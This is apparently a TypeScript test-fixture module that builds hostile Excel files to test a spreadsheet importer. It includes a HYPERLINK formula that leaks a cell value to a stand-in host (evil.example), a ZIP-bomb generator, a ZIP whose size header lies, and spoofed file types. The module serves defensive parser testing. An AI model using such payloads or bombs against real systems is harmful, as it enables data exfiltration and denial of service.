/**
 * The Excel part of the hostile-file corpus (corpus.ts has the text files): workbooks with
 * formulas and markup, no data, the data on a later sheet, impossible date serials, Excel's
 * longest cell, a wide sheet, merged titles, and files that only look like workbooks — a
 * renamed CSV or Word document, a ZIP bomb, a size that lies, a password-locked package.
 * Built in memory with SheetJS's writer or from parts written by hand (tests/helpers/xlsx.ts);
 * expectations are counted here in plain TypeScript from the rows written.
 */
import { deflateRawSync, constants as zlib } from "node:zlib";
import { CFB, type CellObject } from "@e965/xlsx";
import { dateCell, oleOf, workbookOf, xlsxFromXml, zipOf } from "../../tests/helpers/xlsx.ts";
import { FILLER_ORDERS, FORMULA_PAYLOADS, GOOD_ORDERS, MARKUP_PAYLOADS, ORDER_HEADER, goodCsv, revenueOf, type ExpectedProblem, type GoodOrder, type HostileExpectation, type HostileFile } from "./corpus.ts";

const DAY_MS = 86_400_000;
/** Excel's serial of an ISO date in the 1900 system (day 1 = 1900-01-01, counting its phantom 29 February). */
const serial1900 = (iso: string): number => (Date.parse(iso) - Date.UTC(1899, 11, 30)) / DAY_MS;
/** The same date in the 1904 system, 1,462 days fewer. */
const serial1904 = (iso: string): number => serial1900(iso) - 1462;

type Cell = string | number | null | CellObject;

const loads = (orders: readonly GoodOrder[], problems: ExpectedProblem[] = [], products?: string[]): HostileExpectation => ({
  orders: orders.length,
  revenue: revenueOf(orders),
  problems,
  ...(products ? { products } : {}),
});

/** Orders as sheet rows under the export's header: dates as date cells, amounts as numbers. */
const orderRows = (orders: readonly GoodOrder[], date: (iso: string) => Cell = (iso) => dateCell(serial1900(iso))): Cell[][] => [
  [...ORDER_HEADER],
  ...orders.map((o) => [o.id, o.customer, date(o.date), o.amount, o.product]),
];
const orderBook = (rows: Cell[][]): Uint8Array => workbookOf([{ name: "订单", rows }]);

const PAYLOADS = [...MARKUP_PAYLOADS, ...FORMULA_PAYLOADS];
const payload = (i: number): string => PAYLOADS[i % PAYLOADS.length] as string;

/**
 * Formulas and markup everywhere: text cells hold payloads (kept as text, trimmed as every
 * text is), a header and a product are formulas whose saved value is plain text, and each
 * amount is a formula whose saved value differs from what it would compute (=1+1): the
 * saved values must load, so the sum tells whether anything was evaluated.
 */
function formulasAndMarkup(): { bytes: Uint8Array; expect: HostileExpectation } {
  const header: Cell[] = [...ORDER_HEADER, payload(0), payload(6)];
  header[3] = { t: "s", v: "amount", f: '"amo"&"unt"' };
  const products: string[] = [];
  const rows = GOOD_ORDERS.map((o, i): Cell[] => {
    const product: Cell = i === 0 ? { t: "s", v: "绿茶", f: 'HYPERLINK("https://evil.example/?leak="&A1,"绿茶")' } : payload(i + 3);
    products.push(i === 0 ? "绿茶" : payload(i + 3).trim());
    return [o.id, payload(i), dateCell(serial1900(o.date)), { t: "n", v: o.amount, f: "1+1" }, product, `=${i}+1`, `@SUM(${i},1)`];
  });
  return { bytes: workbookOf([{ name: "订单", rows: [header, ...rows] }]), expect: loads(GOOD_ORDERS, [], products) };
}

/**
 * A workbook whose sheets hold nothing to read: an empty sheet, a hidden one whose cells are
 * only styled or blank, and a chartsheet whose chart caches three numbers (SheetJS turns a
 * chart's cached series into cells of the chartsheet; they are a picture's data, not a table).
 */
function noData(): Uint8Array {
  const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const pkg = "http://schemas.openxmlformats.org/package/2006/relationships";
  const ct = "application/vnd.openxmlformats-officedocument";
  const chart = "http://schemas.openxmlformats.org/drawingml/2006/chart";
  const drawing = "http://schemas.openxmlformats.org/drawingml/2006/main";
  const rels = (items: [id: string, type: string, target: string][]): string =>
    `${xml}<Relationships xmlns="${pkg}">${items.map(([id, type, target]) => `<Relationship Id="${id}" Type="${rel}/${type}" Target="${target}"/>`).join("")}</Relationships>`;
  const worksheet = (data: string): string => `${xml}<worksheet xmlns="${main}"><sheetData>${data}</sheetData></worksheet>`;
  const points = [3, 1, 4].map((v, i) => `<c:pt idx="${i}"><c:v>${v}</c:v></c:pt>`).join("");
  return zipOf({
    "[Content_Types].xml":
      `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/xl/workbook.xml" ContentType="${ct}.spreadsheetml.sheet.main+xml"/>` +
      `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${ct}.spreadsheetml.worksheet+xml"/>` +
      `<Override PartName="/xl/worksheets/sheet2.xml" ContentType="${ct}.spreadsheetml.worksheet+xml"/>` +
      `<Override PartName="/xl/chartsheets/sheet1.xml" ContentType="${ct}.spreadsheetml.chartsheet+xml"/>` +
      `<Override PartName="/xl/drawings/drawing1.xml" ContentType="${ct}.drawing+xml"/>` +
      `<Override PartName="/xl/charts/chart1.xml" ContentType="${ct}.drawingml.chart+xml"/></Types>`,
    "_rels/.rels": rels([["rId1", "officeDocument", "xl/workbook.xml"]]),
    "xl/workbook.xml":
      `${xml}<workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>` +
      `<sheet name="图表" sheetId="2" r:id="rId2"/><sheet name="隐藏" sheetId="3" state="hidden" r:id="rId3"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": rels([["rId1", "worksheet", "worksheets/sheet1.xml"], ["rId2", "chartsheet", "chartsheets/sheet1.xml"], ["rId3", "worksheet", "worksheets/sheet2.xml"]]),
    "xl/worksheets/sheet1.xml": worksheet(""),
    "xl/worksheets/sheet2.xml": worksheet('<row r="1"><c r="A1" s="0"/><c r="B1" t="inlineStr"><is><t>   </t></is></c></row><row r="3"/>'),
    "xl/chartsheets/sheet1.xml": `${xml}<chartsheet xmlns="${main}" xmlns:r="${rel}"><sheetViews><sheetView workbookViewId="0"/></sheetViews><drawing r:id="rId1"/></chartsheet>`,
    "xl/chartsheets/_rels/sheet1.xml.rels": rels([["rId1", "drawing", "../drawings/drawing1.xml"]]),
    "xl/drawings/drawing1.xml":
      `${xml}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="${drawing}"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="8666000" cy="6293000"/>` +
      `<xdr:graphicFrame><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm>` +
      `<a:graphic><a:graphicData uri="${chart}"><c:chart xmlns:c="${chart}" xmlns:r="${rel}" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>`,
    "xl/drawings/_rels/drawing1.xml.rels": rels([["rId1", "chart", "../charts/chart1.xml"]]),
    "xl/charts/chart1.xml":
      `${xml}<c:chartSpace xmlns:c="${chart}" xmlns:a="${drawing}"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/>` +
      `<c:val><c:numRef><c:f>Sheet1!$A$1:$A$3</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="3"/>${points}</c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`,
  });
}

/** The orders on the third sheet, behind a cover with a merged title and a sheet of monthly totals. */
function thirdSheet(): Uint8Array {
  const months = ["月份", "合计", "环比"];
  return workbookOf([
    { name: "封面", rows: [["2024 年第一季度销售报表"], [], ["制表：财务部", null, "机密"]] },
    { name: "汇总", rows: [months, ...[1, 2, 3, 4].map((m) => [`2024-0${m}`, 100 * m, m > 1 ? `${Math.round(100 / (m - 1))}%` : "—"])] },
    { name: "订单明细", rows: orderRows(GOOD_ORDERS) },
  ]);
}

/**
 * Date cells Excel would show as ##### or as no date: serial 0 (the "1900-01-00" of the
 * 1900 system, a time of day alone), negative serials, 2958466 (10000-01-01, one past
 * Excel's last day) and beyond, a date before 1900 and after 2100 that SheetJS can write,
 * and dates typed as text, one of them impossible. Each on an order of its own, among 158
 * good ones so that the column still reads as dates.
 */
const BAD_SERIALS: [cell: Cell, reason: string][] = [
  [dateCell(0), "bad_date"],
  [dateCell(-1), "bad_date"],
  [dateCell(-700_000), "bad_date"],
  [dateCell(2_958_466), "bad_date"],
  [dateCell(1e9), "bad_date"],
  [dateCell(serial1900("2101-01-01")), "date_out_of_range"],
  ["2024-02-30", "bad_date"],
  ["30/02/2024", "bad_date"],
];
const TEXT_DATES: [text: string, iso: string][] = [["2024-03-05", "2024-03-05"], ["2024/3/6", "2024-03-06"]];

function datesOutOfRange(): { bytes: Uint8Array; expect: HostileExpectation } {
  const good = [...GOOD_ORDERS, ...FILLER_ORDERS];
  const textOrders = TEXT_DATES.map(([, iso], i) => ({ id: `T${i}`, customer: "C6", date: iso, amount: 2, product: "茶" }));
  const rows = orderRows([...good, ...textOrders]);
  // Text dates replace the date cells of the last orders; bad ones follow, rows numbered after them.
  TEXT_DATES.forEach(([text], i) => ((rows[good.length + 1 + i] as Cell[])[2] = text));
  const firstBad = rows.length + 1;
  BAD_SERIALS.forEach(([cell], i) => rows.push([`D${i}`, "C7", cell, 1, "茶"]));
  const problems = BAD_SERIALS.map(([, reason], i) => ({ row: firstBad + i, column: "order_date", reason }));
  return { bytes: orderBook(rows), expect: loads([...good, ...textOrders], problems) };
}

/** Excel's longest cell: 32,767 characters, Chinese and Latin. */
const LONG_TEXT = `${"长文本 long text ".repeat(2400).slice(0, 32_766)}。`;

/** 1,000 orders × 300 columns: the five of the export, then 295 more. */
function wideSheet(): { bytes: Uint8Array; expect: HostileExpectation } {
  const orders = Array.from({ length: 1000 }, (_, k) => ({ id: `W${k + 1}`, customer: `C${(k % 50) + 1}`, date: new Date(Date.UTC(2024, 0, 1 + (k % 366))).toISOString().slice(0, 10), amount: (k % 100) + 0.5, product: `P${k % 7}` }));
  const rows = orderRows(orders);
  (rows[0] as Cell[]).push(...Array.from({ length: 295 }, (_, c) => `extra_${c + 6}`));
  for (let r = 1; r < rows.length; r++) (rows[r] as Cell[]).push(...Array.from({ length: 295 }, (_, c) => (c % 3 === 0 ? r * c : c % 3 === 1 ? `x${c}` : null)));
  return { bytes: orderBook(rows), expect: loads(orders) };
}

/**
 * As a report is laid out by hand: two blank rows, a title merged across the columns, a
 * blank row, then the header (on row 5) and the orders, each customer's ID merged down over
 * their consecutive orders (Excel keeps the value in the top cell only).
 */
function mergedTitle(): { bytes: Uint8Array; expect: HostileExpectation } {
  const orders = [...GOOD_ORDERS].sort((a, b) => a.customer.localeCompare(b.customer) || a.id.localeCompare(b.id));
  const title = "<c r=\"A3\" t=\"inlineStr\"><is><t>2024 年订单</t></is></c>";
  const text = (ref: string, value: string) => `<c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c>`;
  const cols = ["A", "B", "C", "D", "E"];
  const header = ORDER_HEADER.map((h, c) => text(`${cols[c]}5`, h)).join("");
  const merges = ["A3:E3"];
  const body = orders
    .map((o, i) => {
      const r = 6 + i;
      const first = i === 0 || orders[i - 1]?.customer !== o.customer;
      if (first) {
        const last = r + orders.slice(i + 1).findIndex((n) => n.customer !== o.customer);
        const end = last < r ? 5 + orders.length : last;
        if (end > r) merges.push(`B${r}:B${end}`);
      }
      const customer = first ? text(`B${r}`, o.customer) : "";
      return `<row r="${r}">${text(`A${r}`, o.id)}${customer}<c r="C${r}" s="1"><v>${serial1900(o.date)}</v></c><c r="D${r}"><v>${o.amount}</v></c>${text(`E${r}`, o.product)}</row>`;
    })
    .join("");
  const bytes = xlsxFromXml({
    sheets: [["订单", `<row r="3">${title}</row><row r="5">${header}</row>${body}`, `<mergeCells count="${merges.length}">${merges.map((m) => `<mergeCell ref="${m}"/>`).join("")}</mergeCells>`]],
    strings: [],
    cellXfs: ['<xf numFmtId="0"/>', '<xf numFmtId="14" applyNumberFormat="1"/>'],
  });
  return { bytes, expect: loads(orders) };
}

/** The parts of a small good workbook, unpacked, to be packed again with one part changed. */
function goodParts(): Map<string, Uint8Array> {
  const archive = CFB.read(orderBook(orderRows(GOOD_ORDERS)), { type: "array" }) as { FullPaths: string[]; FileIndex: { type: number; content?: ArrayLike<number> }[] };
  const parts = new Map<string, Uint8Array>();
  archive.FileIndex.forEach((entry, i) => {
    if (entry.type === 2 && entry.content) parts.set((archive.FullPaths[i] ?? "").replace(/^[^/]*\//, ""), Uint8Array.from(entry.content));
  });
  return parts;
}

interface ZipMember {
  name: string;
  /** The bytes as stored: deflated (method 8) or as they are (method 0). */
  stored: Uint8Array;
  method: 0 | 8;
  /** The uncompressed size the headers declare. */
  size: number;
}

/** A ZIP archive written field by field (APPNOTE 4.3), so that a member can declare any size. CRCs are left 0. */
function zipArchive(members: ZipMember[]): Uint8Array {
  const encoder = new TextEncoder();
  const chunks: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  let offset = 0;
  const record = (length: number, fill: (view: DataView) => void, name: Uint8Array): Uint8Array => {
    const bytes = new Uint8Array(length + name.length);
    fill(new DataView(bytes.buffer));
    bytes.set(name, length);
    return bytes;
  };
  for (const member of members) {
    const name = encoder.encode(member.name);
    const sizes = (view: DataView, at: number) => {
      view.setUint16(at, member.method, true);
      view.setUint32(at + 10, member.stored.length, true);
      view.setUint32(at + 14, member.size, true);
      view.setUint16(at + 18, name.length, true);
    };
    const local = record(30, (v) => (v.setUint32(0, 0x04034b50, true), v.setUint16(4, 20, true), sizes(v, 8)), name);
    directory.push(record(46, (v) => (v.setUint32(0, 0x02014b50, true), v.setUint16(4, 20, true), v.setUint16(6, 20, true), sizes(v, 10), v.setUint32(42, offset, true)), name));
    chunks.push(local, member.stored);
    offset += local.length + member.stored.length;
  }
  const size = directory.reduce((n, d) => n + d.length, 0);
  const end = record(22, (v) => (v.setUint32(0, 0x06054b50, true), v.setUint16(8, members.length, true), v.setUint16(10, members.length, true), v.setUint32(12, size, true), v.setUint32(16, offset, true)), new Uint8Array(0));
  const out = new Uint8Array(offset + size + end.length);
  let at = 0;
  for (const chunk of [...chunks, ...directory, end]) {
    out.set(chunk, at);
    at += chunk.length;
  }
  return out;
}

const SHEET = "xl/worksheets/sheet1.xml";
const stored = (parts: Map<string, Uint8Array>): ZipMember[] => [...parts].map(([name, bytes]) => ({ name, stored: bytes, method: 0, size: bytes.length }));

/**
 * A good workbook whose sheet is 1 GiB of XML: its real rows followed by spaces, deflated to
 * about 1 MB (1 MiB of spaces deflates to ~1 KB; the pieces are flushed to byte boundaries so
 * that they can be joined into one stream). Its headers say so honestly.
 */
function zipBomb(): Uint8Array {
  const parts = goodParts();
  const sheet = new TextDecoder().decode(parts.get(SHEET));
  const cut = sheet.indexOf("</sheetData>");
  const flush = { finishFlush: zlib.Z_SYNC_FLUSH };
  const head = deflateRawSync(sheet.slice(0, cut), flush);
  const spaces = deflateRawSync(Buffer.alloc(1 << 20, 0x20), flush);
  const tail = deflateRawSync(sheet.slice(cut));
  const pieces = [head, ...Array.from({ length: 1024 }, () => spaces), tail];
  const bomb: ZipMember = { name: SHEET, stored: Buffer.concat(pieces), method: 8, size: cut + 1024 * (1 << 20) + (sheet.length - cut) };
  parts.delete(SHEET);
  return zipArchive([...stored(parts), bomb]);
}

/** A good workbook whose sheet says it unpacks to 4 GiB less 2 bytes: a reader that allocates what it is told runs out of memory. */
function sizeLie(): Uint8Array {
  const parts = goodParts();
  const sheet = parts.get(SHEET) as Uint8Array;
  parts.delete(SHEET);
  return zipArchive([...stored(parts), { name: SHEET, stored: deflateRawSync(sheet), method: 8, size: 0xffff_fffe }]);
}

/**
 * A workbook locked with a password as Office writes it (MS-OFFCRYPTO, agile encryption): an
 * OLE compound file with the encryption's description and the encrypted package, here seeded
 * noise after its 8-byte length (real AES output looks no different to a reader without the key).
 */
function encrypted(): Uint8Array {
  const info = new TextEncoder().encode(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>',
  );
  const noise = new Uint8Array(8 + 4096);
  new DataView(noise.buffer).setUint32(0, 4000, true);
  for (let i = 8, x = 7; i < noise.length; i++) noise[i] = x = (x * 1103515245 + 12345) >>> 16 & 0xff;
  return oleOf({ EncryptionInfo: Uint8Array.from([4, 0, 4, 0, 0x40, 0, 0, 0, ...info]), EncryptedPackage: noise, "\u0006DataSpaces/Version": new Uint8Array(76) });
}

/** A Word document: a ZIP package, but with a document part and no workbook. */
const wordDocument = (): Uint8Array =>
  zipOf({
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>order_id,customer_id,order_date,amount</w:t></w:r></w:p></w:body></w:document>',
  });

export function hostileWorkbooks(): HostileFile[] {
  const built = { formulas: formulasAndMarkup(), dates: datesOutOfRange(), wide: wideSheet(), merged: mergedTitle() };
  const longOrders = GOOD_ORDERS.map((o, i) => (i === 2 ? { ...o, product: LONG_TEXT } : o));
  const dates1904 = workbookOf([{ name: "订单", rows: orderRows(GOOD_ORDERS, (iso) => dateCell(serial1904(iso))) }], { date1904: true });
  return [
    { name: "formulas-and-markup.xlsx", what: "formulas and markup in every cell and header; saved values that differ from the formulas", bytes: () => built.formulas.bytes, expect: built.formulas.expect },
    { name: "no-data.xlsx", what: "an empty sheet, a chartsheet and a hidden sheet of blank cells", bytes: noData, expect: { refused: "xlsx.no_data" } },
    { name: "third-sheet.xlsx", what: "the orders on the third sheet, behind a cover and a summary", bytes: thirdSheet, expect: loads(GOOD_ORDERS) },
    { name: "dates-out-of-range.xlsx", what: "date serials 0, −1, 2958466, 1e9, a year after 2100, text dates", bytes: () => built.dates.bytes, expect: built.dates.expect },
    { name: "dates-1904.xlsx", what: "the 1904 date system", bytes: () => dates1904, expect: loads(GOOD_ORDERS) },
    { name: "long-cell.xlsx", what: "a cell of 32,767 characters", bytes: () => orderBook(orderRows(longOrders)), expect: loads(longOrders, [], longOrders.map((o) => o.product)) },
    { name: "rows-1000-columns-300.xlsx", what: "1,000 rows × 300 columns", bytes: () => built.wide.bytes, expect: built.wide.expect },
    { name: "merged-title.xlsx", what: "blank rows and a merged title above the header, merged customer cells", bytes: () => built.merged.bytes, expect: built.merged.expect },
    { name: "renamed-csv.xlsx", what: "a CSV file named .xlsx", bytes: () => new TextEncoder().encode(goodCsv("\r\n")), expect: loads(GOOD_ORDERS) },
    { name: "word-document.xlsx", what: "a Word document named .xlsx", bytes: wordDocument, expect: { refused: "xlsx.not_spreadsheet" } },
    { name: "zip-bomb.xlsx", what: "a sheet of 1 GiB deflated into 1 MB", bytes: zipBomb, expect: { refused: "xlsx.too_large" } },
    { name: "size-lie.xlsx", what: "a sheet of 2 KB whose headers say 4 GiB", bytes: sizeLie, expect: { refused: "xlsx.too_large" } },
    { name: "encrypted.xlsx", what: "a workbook locked with a password (an OLE file holding an EncryptedPackage)", bytes: encrypted, expect: { refused: "xlsx.encrypted" } },
  ];
}
